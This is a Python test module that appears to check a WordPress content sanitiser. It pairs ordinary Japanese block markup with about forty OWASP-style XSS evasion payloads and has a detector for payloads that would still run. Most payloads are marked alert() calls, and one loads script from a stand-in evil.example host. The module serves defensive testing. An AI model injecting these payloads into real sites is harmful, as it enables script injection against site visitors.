"""Script payloads from the OWASP XSS filter evasion families, ordinary rich content, and a detector
that says whether a rendered page would run one of the payloads.

Each payload carries a marker (`{m}`, replaced by a unique token per use) inside the code it would run,
so a page can be searched for *that* payload running, not for any script WordPress itself prints.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from dataclasses import dataclass
from xml.etree import ElementTree

import html5lib

# (family, template): `{m}` is the marker inside the code the payload would run.
PAYLOADS: tuple[tuple[str, str], ...] = (
    ("script", "<script>alert('{m}')</script>"),
    ("script", "<ScRiPt>alert('{m}')</sCrIpT>"),
    ("script", '<script src="https://evil.example/{m}.js"></script>'),
    ("script", "<<script>alert('{m}');//<</script>"),
    ("script", "<script\n>alert('{m}')</script\n>"),
    ("event", "<img src=x onerror=\"alert('{m}')\">"),
    ("event", "<img src=x onerror=alert('{m}')//"),
    ("event", "<svg onload=\"alert('{m}')\">"),
    ("event", "<svg><animate onbegin=\"alert('{m}')\" attributeName=x dur=1s>"),
    ("event", "<body onload=\"alert('{m}')\">"),
    ("event", "<p onmouseover=\"alert('{m}')\">hover</p>"),
    ("event", '<a href="https://example.com/" onclick="alert(\'{m}\')">x</a>'),
    ("event", "<details open ontoggle=\"alert('{m}')\">x</details>"),
    ("event", "<video><source onerror=\"alert('{m}')\"></video>"),
    ("event", "<audio src=x onerror=\"alert('{m}')\"></audio>"),
    ("event", '<div style="width:100px" onpointerenter="alert(\'{m}\')">x</div>'),
    ("event", '<img """><script>alert(\'{m}\')</script>">'),
    ("event", "<img src=x:alert(alt) onerror=eval(src+'{m}') alt=x>"),
    ("url", "<a href=\"javascript:alert('{m}')\">x</a>"),
    ("url", "<a href=\"JaVaScRiPt:alert('{m}')\">x</a>"),
    ("url", "<a href=\" javascript:alert('{m}')\">x</a>"),
    ("url", "<a href=\"java&#x09;script:alert('{m}')\">x</a>"),
    ("url", "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert('{m}')\">x</a>"),
    ("url", "<a href=\"javascript&colon;alert('{m}')\">x</a>"),
    ("url", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#{m}">x</a>'),
    ("url", "<a href=\"vbscript:msgbox('{m}')\">x</a>"),
    ("url", "<img src=\"javascript:alert('{m}')\">"),
    ("url", "<form action=\"javascript:alert('{m}')\"><button>x</button></form>"),
    ("url", "<button formaction=\"javascript:alert('{m}')\">x</button>"),
    ("url", "<math><maction actiontype=statusline xlink:href=\"javascript:alert('{m}')\">x</maction></math>"),
    ("embed", "<iframe src=\"javascript:alert('{m}')\"></iframe>"),
    ("embed", "<iframe srcdoc=\"&lt;script&gt;alert('{m}')&lt;/script&gt;\"></iframe>"),
    ("embed", "<object data=\"javascript:alert('{m}')\"></object>"),
    ("embed", "<embed src=\"javascript:alert('{m}')\">"),
    ("meta", '<meta http-equiv="refresh" content="0;url=javascript:alert(\'{m}\')">'),
    ("meta", "<base href=\"javascript:alert('{m}')//\">"),
    ("style", "<style>@import 'javascript:alert(\"{m}\")';</style>"),
    ("style", "<link rel=stylesheet href=\"javascript:alert('{m}')\">"),
    ("style", "<p style=\"background:url(javascript:alert('{m}'))\">x</p>"),
    ("style", "<p style=\"width:expression(alert('{m}'))\">x</p>"),
    ("comment", "<!--<script>alert('{m}')</script>-->"),
    ("comment", "<!-- --><script>alert('{m}')</script><!-- -->"),
    ("block", "<!-- wp:html -->\n<script>alert('{m}')</script>\n<!-- /wp:html -->"),
    ("block", "<!-- wp:paragraph -->\n<p><img src=x onerror=\"alert('{m}')\"></p>\n<!-- /wp:paragraph -->"),
)

# What people ordinarily write: block markup as the editor saves it, classic HTML, plain text.
ORDINARY: tuple[str, ...] = (
    "秋の新メニューのお知らせ",
    "価格は 3 < 5 ではなく 5 > 3 です & 税込",
    "<!-- wp:paragraph -->\n<p>本日より<strong>秋の新メニュー</strong>を提供します。</p>\n<!-- /wp:paragraph -->",
    '<!-- wp:heading -->\n<h2 class="wp-block-heading">営業時間</h2>\n<!-- /wp:heading -->',
    '<!-- wp:paragraph -->\n<p><a href="https://example.com/menu" target="_blank" rel="noreferrer noopener">メニュー</a></p>\n<!-- /wp:paragraph -->',
    '<!-- wp:image {"id":58,"sizeSlug":"large"} -->\n<figure class="wp-block-image size-large"><img src="https://example.test/wp-content/uploads/2024/01/hero.jpg" alt="店内" class="wp-image-58"/></figure>\n<!-- /wp:image -->',
    '<!-- wp:list -->\n<ul class="wp-block-list"><li>月曜定休</li><li>火〜日 11:00-21:00</li></ul>\n<!-- /wp:list -->',
    '<!-- wp:table -->\n<figure class="wp-block-table"><table><thead><tr><th>品名</th><th>価格</th></tr></thead><tbody><tr><td>珈琲</td><td>500円</td></tr></tbody></table></figure>\n<!-- /wp:table -->',
    '<!-- wp:quote -->\n<blockquote class="wp-block-quote"><p>おいしかった</p><cite>お客様</cite></blockquote>\n<!-- /wp:quote -->',
    '<!-- wp:paragraph {"style":{"color":{"text":"#cf2e2e"}}} -->\n<p class="has-text-color" style="color:#cf2e2e">赤字</p>\n<!-- /wp:paragraph -->',
    '<!-- wp:group {"style":{"spacing":{"padding":{"top":"var:preset|spacing|50"}}}} -->\n<div class="wp-block-group" style="padding-top:var(--wp--preset--spacing--50)"><p>余白</p></div>\n<!-- /wp:group -->',
    '<!-- wp:buttons -->\n<div class="wp-block-buttons"><div class="wp-block-button"><a class="wp-block-button__link wp-element-button" href="https://example.com/reserve" style="border-radius:4px">予約</a></div></div>\n<!-- /wp:buttons -->',
    '<!-- wp:cover {"dimRatio":50} -->\n<div class="wp-block-cover" style="min-height:300px;aspect-ratio:16/9"><span aria-hidden="true" class="wp-block-cover__background has-background-dim"></span><div class="wp-block-cover__inner-container"><p>表紙</p></div></div>\n<!-- /wp:cover -->',
    '<!-- wp:code -->\n<pre class="wp-block-code"><code>wp post list</code></pre>\n<!-- /wp:code -->',
    '<!-- wp:details -->\n<details class="wp-block-details"><summary>詳細</summary><p>中身</p></details>\n<!-- /wp:details -->',
    '<!-- wp:separator -->\n<hr class="wp-block-separator has-alpha-channel-opacity"/>\n<!-- /wp:separator -->',
    '<p>連絡先: <a href="mailto:info@example.com">info@example.com</a> / <a href="tel:0312345678">03-1234-5678</a></p>',
    '<p style="text-align:center;font-size:clamp(1rem, 2vw, 2rem)">中央</p>',
    '<p><img src="https://example.com/a.png" alt="" width="100" height="50" loading="lazy"></p>',
    '<h3 id="access">アクセス</h3><p><em>駅から</em>徒歩<sup>5</sup>分<br>地図は<a href="#map">こちら</a></p>',
    '<div class="wp-block-columns" style="gap:2em;background:linear-gradient(135deg,#fff 0%,#eee 100%)"><div class="wp-block-column"><p>左</p></div></div>',
    '<p><span data-rich-text-placeholder="x">x</span></p>',
)

MARKER = re.compile(r"xss[0-9a-f]{8}")
_EXECUTABLE_SCHEMES = ("javascript:", "vbscript:", "data:")
_URL_ATTRIBUTES = frozenset(
    {"href", "src", "action", "formaction", "data", "poster", "background", "xlink:href"}
)


@dataclass(frozen=True)
class Payload:
    family: str
    template: str

    def with_marker(self, marker: str) -> str:
        return self.template.replace("{m}", marker)


def payloads() -> list[Payload]:
    return [Payload(family, template) for family, template in PAYLOADS]


def _elements(html: str) -> Iterator[ElementTree.Element]:
    document = html5lib.parse(html, treebuilder="etree", namespaceHTMLElements=False)
    yield from document.iter()


def running_markers(page: str) -> set[str]:
    """The markers whose payload the browser would run on this page: in a script element, an event
    handler, a javascript:/vbscript:/data: URL, an iframe's srcdoc, a meta refresh or a style."""
    found: set[str] = set()
    for element in _elements(page):
        tag = str(element.tag).rsplit("}", 1)[-1].lower()
        if tag == "script":
            found |= set(MARKER.findall(element.text or ""))
            found |= set(MARKER.findall(element.get("src", "")))
        if tag == "style":
            found |= set(MARKER.findall(element.text or ""))
        for raw, value in element.attrib.items():
            name = str(raw).rsplit("}", 1)[-1].lower()
            markers = set(MARKER.findall(str(value)))
            if not markers:
                continue
            compact = re.sub(r"[\x00-\x20]", "", str(value)).lower()
            if (
                name.startswith("on")
                or name in {"srcdoc", "style"}
                or (
                    (name in _URL_ATTRIBUTES or str(raw).endswith("}href"))
                    and compact.startswith(_EXECUTABLE_SCHEMES)
                )
                or (tag == "meta" and name == "content" and "url=" in compact)
            ):
                found |= markers
    return found
